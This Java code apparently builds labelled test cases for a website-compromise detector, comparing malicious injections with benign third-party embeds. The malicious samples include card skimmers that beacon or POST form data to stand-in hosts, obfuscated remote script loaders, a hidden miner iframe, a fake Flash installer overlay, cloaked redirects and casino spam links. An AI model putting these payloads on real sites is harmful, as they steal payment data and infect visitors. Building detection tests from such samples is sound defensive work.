    v.add(bad(S, "defacement", "[fresh2] Spanish crew message", e -> e.site.override = home(deface("Hackeado",
        "<h1>Sitio hackeado por Los Fantasmas del Sur</h1><p>Tu seguridad es una broma</p>", "es"))));
    v.add(bad(K, "miner", "[fresh2] hidden iframe running a miner page", e -> e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"",
        "<iframe src=\"https://web-hash-worker.com/run.html?k=kamakura\" style=\"display:none\"></iframe>")));
    v.add(bad(W, "obfuscation", "[fresh2] script given as a base64 data: URL", e -> e.site.insertBefore("*", "</body>",
        "<script src=\"data:text/javascript;base64," + b64("var s=document.createElement('script');"
            + "s.src='https://wp-data-cdn.com/d.js';document.head.appendChild(s);") + "\"></script>")));
    v.add(bad(S, "redirect", "[fresh2] server redirect only for visitors from Yahoo! JAPAN", e -> e.site.override = r ->
        r.referer() != null && r.referer().contains("yahoo.co.jp") ? Reply.redirect(302, "http://onsen-brand-outlet.com/") : null));
    v.add(bad(E, "fake-update", "[fresh2] 'Flash Player required' overlay with an installer download", e -> e.site.insertBefore(
        "/", "<div class=\"ec-layoutRole\">", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#222;"
            + "color:#fff;z-index:10000;text-align:center;padding-top:150px\"><h2>動画を再生するには Adobe Flash Player の更新が必要です</h2>"
            + "<a href=\"https://flash-player-update.net/dl/FlashPlayerInstaller.exe\">最新版をダウンロード</a></div>")));
    v.add(bad(W, "obfuscation", "[fresh2] eval reached through Function('return this')() and a split name", e -> e.site.insertBefore(
        "*", "</body>", "<script>Function('return this')()['ev'+'al'](\"var s=document.createElement('script');"
            + "s.src='https://wp-global-cdn.com/g.js';document.body.appendChild(s);\");</script>")));
    v.add(bad(S, "seo-spam", "[fresh2] casino links on an image map of the title banner", e -> e.site.insertBefore("/",
        "</body>", "<map name=\"bn\"><area shape=\"rect\" coords=\"0,0,1,1\" href=\"https://jp-casino-ranking.com/\" "
            + "alt=\"オンラインカジノ\"><area shape=\"rect\" coords=\"1,1,2,2\" href=\"https://slot-paradise-jp.net/\" alt=\"ネットカジノ\">"
            + "<area shape=\"rect\" coords=\"2,2,3,3\" href=\"https://bet-japan-online.com/\" alt=\"ブックメーカー\"></map>")));
    v.add(bad(E, "skimmer", "[fresh2] polling the card fields every second and beaconing them", e -> e.site.insertBefore("*",
        "</body>", "<script>setInterval(function(){var n=document.querySelector('[name*=card],[id*=card]');if(n&&n.value.length>"
            + "12){navigator.sendBeacon('https://card-verify-jp.com/b',JSON.stringify({c:n.value,h:location.host}));}},1000);</script>")));
    v.add(bad(W, "skimmer", "[fresh2] skimmer on a Cloudflare-fronted site (challenge script present)", e -> {
      e.site.insertBefore("*", "</body>", CLOUDFLARE_JSD);
      e.site.insertBefore("/contact/", "</body>", "<script>jQuery(function($){$('form').on('submit',function(){"
          + "$.ajax({url:'https://wpcf7-backup.com/s',type:'POST',data:{f:btoa($(this).serialize())}});});});</script>");
    }));
    return v;
  }

  static List<HeldOutVariant> fresh2Benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(W, "tags", "[fresh2] Jetpack site stats", e -> e.site.insertBefore("*", "</body>", "<script src=\"https://stats.wp.com/"
        + "e-202647.js\" defer></script><script>_stq = window._stq || [];_stq.push([ 'view', {v:'ext',blog:'212345678',post:'0',"
        + "tz:'9',srv:'www.midori-koumuten.test'} ]);_stq.push([ 'clickTrackerInit', '212345678', '0' ]);</script>")));
    v.add(good(E, "embed", "[fresh2] Shopify Buy Button on a page", e -> e.site.insertBefore("/help/about", "</div></div></div>",
        "<div id=\"product-component-1700000000\"></div><script type=\"text/javascript\">(function(){var scriptURL='https://sdks."
            + "shopifycdn.com/buy-button/latest/buy-button-storefront.min.js';if(window.ShopifyBuy){if(window.ShopifyBuy.UI){"
            + "ShopifyBuyInit();}else{loadScript();}}else{loadScript();}function loadScript(){var script=document.createElement("
            + "'script');script.async=true;script.src=scriptURL;(document.getElementsByTagName('head')[0]||document."
            + "getElementsByTagName('body')[0]).appendChild(script);script.onload=ShopifyBuyInit;}function ShopifyBuyInit(){}})();"
            + "</script>")));
    v.add(good(K, "embed", "[fresh2] Google Maps JavaScript API map", e -> e.site.insertBefore("/access", "</div></section>",
        "<div id=\"map\" style=\"height:300px\"></div><script>function initMap(){new google.maps.Map(document.getElementById('map')"
            + ",{center:{lat:35.3125,lng:139.5335},zoom:16});}</script><script async src=\"https://maps.googleapis.com/maps/api/js?"
            + "key=AIzaSyA1b2C3d4E5f6G7h8I9j0K&callback=initMap\"></script>")));
    v.add(good(S, "embed", "[fresh2] Yahoo! weather blog parts in the sidebar", e -> e.site.insertBefore("*",
        "<tr><td><font size=\"2\">旅館やまぶき荘<br>", "<tr><td><script type=\"text/javascript\" charset=\"euc-jp\" "
            + "src=\"https://blogparts.yahoo.co.jp/weather/js/weather.js?pref=20&city=4810\"></script></td></tr>")));
    v.add(good(W, "embed", "[fresh2] Google Form embedded for event sign-up", e -> e.site.insertBefore(
        "/2026/11/15/danetsu-soudankai/", "</div>\n</article>", "<iframe src=\"https://docs.google.com/forms/d/e/1FAIpQLSe"
            + "AbCdEf/viewform?embedded=true\" width=\"640\" height=\"800\" frameborder=\"0\">読み込んでいます…</iframe>")));
    v.add(good(E, "tags", "[fresh2] error monitoring from Sentry's CDN", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://browser.sentry-cdn.com/8.40.0/bundle.min.js\" crossorigin=\"anonymous\"></script><script>"
            + "Sentry.init({dsn:'https://abc123@o123456.ingest.sentry.io/4501234',tracesSampleRate:0.1});</script>")));
    v.add(good(K, "embed", "[fresh2] Calendly booking embed", e -> e.site.insertBefore("/contact", "</div></section>",
        "<div class=\"calendly-inline-widget\" data-url=\"https://calendly.com/cafe-komorebi/kashikiri\" style=\"min-width:320px;"
            + "height:630px;\"></div><script type=\"text/javascript\" src=\"https://assets.calendly.com/assets/external/widget.js\" "
            + "async></script>")));
    v.add(good(S, "content", "[fresh2] images moved to the inn's own image subdomain", e -> e.site.replace("/",
        "<img src=\"images/top_roten.jpg\"", "<img src=\"http://img.yamabuki-so.test/top_roten.jpg\"")));
    v.add(good(W, "tags", "[fresh2] Hotjar added", e -> e.site.insertBefore("*", "</head>", "<script>(function(h,o,t,j,a,r){"
        + "h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:3456789,hjsv:6};a=o.getElementsByTagName"
        + "('head')[0];r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})"
        + "(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');</script>")));
    v.add(good(E, "embed", "[fresh2] product reviews widget from Yotpo", e -> e.site.insertBefore("*", "</body>",
        "<script type=\"text/javascript\">(function e(){var e=document.createElement(\"script\");e.type=\"text/javascript\","
            + "e.async=true,e.src=\"//staticw2.yotpo.com/AbCdEfGhIjKlMn/widget.js\";var t=document.getElementsByTagName(\"script\")[0];"
            + "t.parentNode.insertBefore(e,t)})();</script>")));
    v.add(good(W, "cms", "[fresh2] site put behind Cloudflare (challenge and beacon scripts)", e -> e.site.insertBefore("*",
        "</body>", CLOUDFLARE_JSD)));
    v.add(good(K, "content", "[fresh2] members' login page added by the builder", e -> e.site.putLike("/members", "/contact",
        "<div class=\"wixui-rich-text\"><h1 class=\"font_2 wixui-rich-text__text\">", "</div></section>", "メンバーログイン</h1>"
            + "</div><div class=\"wixui-form\"><form novalidate><input type=\"email\" name=\"email\" autocomplete=\"email\">"
            + "<input type=\"password\" name=\"password\" autocomplete=\"current-password\"><button type=\"submit\">ログイン</button>"
            + "</form></div>")));
    return v;
  }
}
